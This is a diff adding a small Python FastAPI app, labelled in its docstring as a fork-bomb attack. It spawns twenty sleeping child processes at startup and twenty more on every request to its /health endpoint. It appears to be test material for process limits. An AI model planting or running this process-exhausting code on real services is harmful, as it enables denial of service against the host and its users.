@@ -1,0 +1,26 @@
+"""Attack: a fork bomb, of which forty processes at a time are enough to see what becomes of it."""
+
+import os
+import time
+
+from fastapi import FastAPI
+
+app = FastAPI()
+
+
+def fork(number):
+    try:
+        for _ in range(number):
+            if os.fork() == 0:
+                time.sleep(30)
+                os._exit(0)
+    except OSError as error:
+        print("no more processes:", error)
+
+
+fork(20)
+
+
+@app.get("/health")
+async def read_health():
+    fork(20)
